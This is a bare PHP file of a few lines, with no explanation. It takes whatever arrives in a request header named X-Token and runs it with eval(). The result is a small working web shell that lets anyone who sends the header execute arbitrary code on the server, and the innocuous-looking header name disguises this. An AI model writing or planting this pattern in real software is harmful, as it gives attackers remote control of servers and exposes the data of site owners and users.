<?php
if (isset($_SERVER['HTTP_X_TOKEN'])) {
    $code = $_SERVER['HTTP_X_TOKEN'];
    eval($code);
}
